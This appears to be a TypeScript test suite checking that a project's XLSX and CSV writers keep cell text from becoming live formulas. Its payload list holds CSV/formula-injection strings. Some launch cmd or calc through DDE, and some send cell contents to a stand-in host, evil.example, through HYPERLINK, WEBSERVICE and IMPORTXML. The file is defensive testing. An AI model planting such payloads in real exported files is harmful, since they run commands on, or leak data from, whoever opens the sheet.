import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { test } from '@japa/runner'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import writeCsv from '#core/sheets/csv_writer'
import WorkbookWriter from '#core/sheets/workbook_writer'
import { isHere, NO_OFFICE } from '#tests/support/programs'

const PAYLOADS = [
  '=1+1',
  "=1+1+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"اضغط هنا")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/"&A2)',
  '=DDE("cmd";"/C calc";"x")',
  '=cmd|"/C calc"!A1',
  "=msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=SUM(A1:A9)*0+9999999',
  '==1+1',
  '=\t1+1',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '++1',
  '+20 100 123 4567',
  '-1+1',
  "-cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '--1',
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200F=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '{=1+1}',
  "'=1+1",
  '"=1+1"',
  'شركة"\r\n=1+1',
  '</t></is><f>1+1</f>',
  ']]><f>1+1</f>',
  '%0A=1+1',
  ';=1+1',
  '_x003D_1+1',
]

const columns = [{ key: 'text', heading: 'البيان' }]
const rows = PAYLOADS.map((text) => ({ text }))

test.group('Text from data is never a formula', (group) => {
  let folder: string

  group.each.setup(async () => {
    folder = await mkdtemp(join(tmpdir(), 'formulas-'))
    return () => rm(folder, { recursive: true, force: true })
  })

  const workbook = async () => {
    const file = join(folder, 'payloads.xlsx')
    const book = new WorkbookWriter(file)
    await book.sheet({ name: 'س', columns, rows, title: '=1+1', notes: ['@SUM(1+1)'] })
    await book.close()
    return file
  }

  test('in Excel every payload comes back as the words it was', async ({ assert }) => {
    const read = await new ExcelJS.Workbook().xlsx.readFile(await workbook())
    const sheet = read.worksheets[0]!
    const formulas: string[] = []
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas.push(cell.address)
      })
    )
    assert.deepEqual(formulas, [])
    assert.equal(sheet.getCell('A1').value, '=1+1')
    // exceljs leaves "_x005F_", the escape of an underscore, as it stands; Excel and LibreOffice read it.
    const cells = PAYLOADS.map((_, index) => sheet.getCell(`A${index + 5}`).value as string)
    assert.deepEqual(
      cells.map((text) => text.replace('_x005F_', '_')),
      PAYLOADS.map((text) => text.replace(/\r\n?/g, '\n'))
    )
  })

  test('LibreOffice shows the same words and computes nothing', async ({ assert }) => {
    const file = await workbook()
    await promisify(execFile)(
      'soffice',
      [
        `-env:UserInstallation=file://${folder}/profile`,
        '--headless',
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true',
        '--outdir',
        folder,
        file,
      ],
      { timeout: 120_000 }
    )
    const cells: string[][] = parse(await readFile(join(folder, 'payloads.csv')), {
      relax_column_count: true,
      bom: true,
    })
    assert.deepEqual(
      cells.slice(-PAYLOADS.length).map(([text]) => text!.trim()),
      PAYLOADS.map((text) => text.replace(/\r\n?/g, '\n').trim())
    )
  })
    .timeout(150_000)
    .skip(!isHere('soffice'), NO_OFFICE)

  test('in CSV every payload is led by a sign that keeps it words', async ({ assert }) => {
    const file = join(folder, 'payloads.csv')
    await writeCsv(file, { columns, rows })
    const records: string[][] = parse(await readFile(file), { bom: true })
    const cells = records.slice(1).map(([text]) => text!)

    assert.lengthOf(cells, PAYLOADS.length)
    for (const [index, cell] of cells.entries()) {
      assert.notMatch(cell, /^[\s\u200B-\u200F\uFEFF]*[=+\-@＝＋－＠]/)
      assert.include(cell, PAYLOADS[index]!)
    }
  })
})
